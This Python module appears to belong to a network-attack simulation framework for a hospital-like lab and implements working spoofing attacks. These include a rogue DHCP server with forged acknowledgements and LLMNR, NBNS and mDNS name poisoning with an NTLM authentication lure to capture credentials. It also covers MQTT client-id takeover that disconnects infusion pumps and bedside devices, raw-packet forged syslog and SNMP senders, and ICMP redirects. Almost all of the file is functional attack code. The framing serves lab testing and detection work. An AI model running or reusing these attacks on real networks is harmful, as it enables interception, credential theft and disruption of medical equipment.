"""Pretending to be somebody: rogue DHCP, forged name answers, a device's MQTT identity, forged senders."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import threading
import time
from typing import TYPE_CHECKING

from .attacks import MAX_SECONDS
from .plan import PASSWORD, USER
from .servers import serve
from .spoofing import near, route
from .timed import beats

if TYPE_CHECKING:
    from .context import Context


def rogue_dhcp(
    ctx: Context, targets: list[str], seconds: float = 60, tool: str = "dnsmasq", period: float = 6, spread: int = 4
) -> None:
    """A second DHCP server in the segment, the attacker as router and resolver.

    Beside the server (dnsmasq, busybox's udhcpd, or none) it sends `spread` unasked acknowledgements a period to
    near targets that have not asked, as tools do that want to be faster than the real server.
    """
    net = ctx.host.ip.rsplit(".", 1)[0]
    conf = ctx.work / f"rogue.{ctx.host.name}"
    if tool == "dnsmasq":
        args = ["dnsmasq", "-k", "-p", "0", "--user=root", "--pid-file=", "--no-ping", "--dhcp-authoritative",
                f"--dhcp-range={net}.200,{net}.240,255.255.255.0,2m", f"--dhcp-leasefile={conf}",
                f"--dhcp-option=3,{ctx.host.ip}", f"--dhcp-option=6,{ctx.host.ip}", "--conf-file=/dev/null",
                "--log-facility=/dev/null"]  # fmt: skip
    else:
        conf.write_text(f"start {net}.210\nend {net}.245\ninterface eth0\nmax_leases 30\nlease_file {conf}.leases\n"
                        f"option subnet 255.255.255.0\noption router {ctx.host.ip}\noption dns {ctx.host.ip}\n"
                        "option lease 120\n")  # fmt: skip
        (ctx.work / f"rogue.{ctx.host.name}.leases").touch()
        args = ["busybox", "udhcpd", "-f", "-S", str(conf)]
    limit = min(seconds, MAX_SECONDS)
    if tool != "none":
        threading.Thread(target=ctx.command, args=(["timeout", str(int(limit)), *args], limit + 5), daemon=True).start()
    victims = near(ctx, targets)
    for _ in beats(ctx, limit, period):
        for victim in ctx.rng.sample(victims, min(spread, len(victims))):
            _acknowledge(ctx, victim)


def _acknowledge(ctx: Context, victim: str) -> None:
    mine = socket.inet_aton(ctx.host.ip)
    mac = next((bytes.fromhex(h.mac.replace(":", "")) for h in ctx.plan.hosts if h.ip == victim), b"\0" * 6)
    body = struct.pack(">BBBBIHH", 2, 1, 6, 0, ctx.rng.randrange(2**32), 0, 0) + b"\0" * 4 + socket.inet_aton(victim)
    body += mine + b"\0" * 4 + mac.ljust(16, b"\0") + b"\0" * 192 + b"\x63\x82\x53\x63"
    for code, value in ((53, b"\5"), (54, mine), (51, b"\0\0\0\x78"), (1, b"\xff\xff\xff\0"), (3, mine), (6, mine)):
        body += bytes([code, len(value)]) + value
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, contextlib.suppress(OSError):
        s.sendto(body + b"\xff", (victim, 68))


def mqtt_takeover(
    ctx: Context, targets: list[str], seconds: float = 60, period: float = 3, devices: int = 3, hold: float = 1,
    publish: int = 0, keepalive: int = 60,
) -> None:  # fmt: skip
    """Log in at the broker with devices' client ids, again and again, so that the devices are dropped."""
    owners = ctx.plan.role("pump", "bedside")
    chosen = ctx.rng.sample(owners, min(devices, len(owners)))
    for number in beats(ctx, seconds, period):
        device = chosen[number % len(chosen)]
        if s := ctx.connect(targets[0], 1883, 3):
            with s, contextlib.suppress(OSError):
                s.settimeout(3)
                client = f"{device.name}-0" if number % 2 else device.name
                s.sendall(mqtt_connect(client, keepalive))
                s.recv(4)
                for _ in range(publish):
                    s.sendall(mqtt_publish(f"ward/{device.name}/0", os.urandom(ctx.rng.randint(20, 120))))
                ctx.pause(hold)


def mqtt_connect(client: str, keepalive: int = 60, user: str = USER, password: str = PASSWORD) -> bytes:
    """An MQTT 3.1.1 CONNECT with user name and password."""
    body = b"\0\4MQTT\4\xc2" + struct.pack(">H", keepalive)
    body += b"".join(struct.pack(">H", len(t)) + t.encode() for t in (client, user, password))
    return b"\x10" + _length(len(body)) + body


def mqtt_publish(topic: str, payload: bytes) -> bytes:
    """An MQTT PUBLISH at QoS 0."""
    return b"\x30" + _length(len(topic) + 2 + len(payload)) + struct.pack(">H", len(topic)) + topic.encode() + payload


def _length(size: int) -> bytes:
    out = b""
    while True:
        size, low = divmod(size, 128)
        out += bytes([low | 0x80 * bool(size)])
        if not size:
            return out


_GROUPS = {"llmnr": ("224.0.0.252", 5355), "mdns": ("224.0.0.251", 5353), "nbns": ("", 137)}


def forge_names(
    ctx: Context,
    targets: list[str],
    seconds: float = 60,
    kinds: tuple[str, ...] = ("llmnr", "nbns"),
    period: float = 5,
    spread: int = 3,
    names: tuple[str, ...] = ("wpad",),
    serve_ports: tuple[int, ...] = (80, 445),
) -> None:
    """Answer every LLMNR, NetBIOS or mDNS question heard with the attacker's address, and some nobody asked.

    `spread` late answers a period go to near targets; whoever believes one finds `serve_ports` open.
    """
    until = time.time() + min(seconds, MAX_SECONDS)
    for port in serve_ports:
        threading.Thread(target=serve, args=(ctx, port, _greet), daemon=True).start()
    for kind in kinds:
        threading.Thread(target=_listen, args=(ctx, kind, until), daemon=True).start()
    victims = near(ctx, targets)
    for _ in beats(ctx, seconds, period):
        for victim in ctx.rng.sample(victims, min(spread, len(victims))):
            kind = ctx.rng.choice(kinds)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, contextlib.suppress(OSError):
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                s.bind((ctx.host.ip, _GROUPS[kind][1]))
                body = _forged(ctx, kind, os.urandom(2), name_bytes(kind, ctx.rng.choice(names)))
                s.sendto(body, (victim, ctx.rng.randrange(49152, 65000)))


def _greet(s: socket.socket) -> None:
    s.recv(4096)
    s.sendall(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM\r\nContent-Length: 0\r\n\r\n")


def name_bytes(kind: str, name: str) -> bytes:
    """A name as the question of this protocol holds it."""
    if kind == "nbns":
        raw = name.upper()[:15].ljust(15).encode() + b"\0"
        return b"\x20" + b"".join(bytes([0x41 + (c >> 4), 0x41 + (c & 15)]) for c in raw) + b"\0"
    parts = [name, "local"] if kind == "mdns" else [name]
    return b"".join(bytes([len(p)]) + p.encode() for p in parts) + b"\0"


def _forged(ctx: Context, kind: str, number: bytes, name: bytes) -> bytes:
    address = socket.inet_aton(ctx.host.ip)
    if kind == "nbns":
        head = struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0)
        return number + head + name + struct.pack(">HHIHH", 32, 1, 165, 6, 0) + address
    asked = b"" if kind == "mdns" else name + b"\0\1\0\1"
    head = struct.pack(">HHHHH", 0x8400 if kind == "mdns" else 0x8000, int(bool(asked)), 1, 0, 0)
    return number + head + asked + name + struct.pack(">HHIH", 1, 1, 30, 4) + address


def _listen(ctx: Context, kind: str, until: float) -> None:
    group, port = _GROUPS[kind]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(("", port))
        s.settimeout(1)
        if group:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                         socket.inet_aton(group) + socket.inet_aton(ctx.host.ip))  # fmt: skip
        while time.time() < min(until, ctx.end):
            with contextlib.suppress(OSError, ValueError):
                data, peer = s.recvfrom(1500)
                if peer[0] != ctx.host.ip and not data[2] & 0x80:
                    s.sendto(_forged(ctx, kind, data[:2], data[12 : data.index(b"\0", 12) + 1]), peer)


def forge_sender(
    ctx: Context,
    targets: list[str],
    seconds: float = 60,
    port: int = 514,
    period: float = 2,
    burst: int = 2,
    roles: tuple[str, ...] = ("pump", "modality", "plc"),
) -> None:
    """Single datagrams (syslog lines, SNMP traps) that claim to come from devices."""
    owners = ctx.plan.role(*roles) or [ctx.plan.gateway]
    trap = (
        bytes.fromhex("302902010104067075626c6963a71c02021234020100020100301030")
        + b"\x0e"
        + bytes.fromhex("06082b0601020101030043021234")
    )
    reachable = near(ctx, targets) or targets
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for _ in beats(ctx, seconds, period):
            for _ in range(burst):
                device = ctx.rng.choice(owners)
                line = f"<{ctx.rng.choice([11, 27, 34])}>{device.name} alarm: {ctx.rng.randrange(10**9)} cleared"
                body = trap if port == 162 else line.encode() + b"x" * ctx.rng.randrange(80)
                udp = struct.pack(">HHHH", ctx.rng.randrange(33000, 60000), port, 8 + len(body), 0) + body
                target = ctx.rng.choice(reachable)
                head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), ctx.rng.randrange(65536), 0x4000, 64, 17, 0)
                head += socket.inet_aton(device.ip) + socket.inet_aton(target)
                with contextlib.suppress(OSError):
                    s.sendto(head + udp, (target, 0))


def name_client(ctx: Context, period: float = 240) -> None:
    """Benign: a desktop asks its segment for short names (wpad, a typed server) and tries who answers."""
    while ctx.pause(period, 0.8):
        kind, name = ctx.rng.choice(["llmnr", "nbns"]), ctx.rng.choice(["wpad", "wpad", "fileserv", "print1", "isatap"])
        group, port = _GROUPS[kind]
        asked = name_bytes(kind, name) + (b"\0\x20\0\1" if kind == "nbns" else b"\0\1\0\1")
        head = os.urandom(2) + struct.pack(">HHHHH", 0x0110 if kind == "nbns" else 0, 1, 0, 0, 0)
        answer = b""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, contextlib.suppress(OSError):
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.settimeout(1)
            s.sendto(head + asked, (group or ctx.host.ip.rsplit(".", 1)[0] + ".255", port))
            answer = s.recv(1500)
        if answer and (link := ctx.connect(socket.inet_ntoa(answer[-4:]), 80 if name == "wpad" else 445, 2)):
            with link, contextlib.suppress(OSError):
                link.settimeout(2)
                link.sendall(b"GET /wpad.dat HTTP/1.1\r\nHost: wpad\r\n\r\n")
                link.recv(1000)


def icmp_redirect(ctx: Context, targets: list[str], seconds: float = 60, period: float = 3) -> None:
    """ICMP redirects that name the attacker as the better router towards addresses of the internet."""
    router, own = route(ctx), socket.inet_aton(ctx.host.ip)
    victims = near(ctx, targets)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for _ in beats(ctx, seconds, period):
            for victim in victims:
                far = socket.inet_aton(ctx.rng.choice(ctx.plan.internet))
                inner = struct.pack(">BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + socket.inet_aton(victim) + far
                inner += b"\0" * 8
                icmp = b"\5\1\0\0" + own + inner
                total = sum(struct.unpack(f">{len(icmp) // 2}H", icmp))
                total = (total & 0xFFFF) + (total >> 16)
                icmp = icmp[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + icmp[4:]
                head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(icmp), 7, 0, 64, 1, 0)
                with contextlib.suppress(OSError):
                    s.sendto(head + socket.inet_aton(router) + socket.inet_aton(victim) + icmp, (victim, 0))
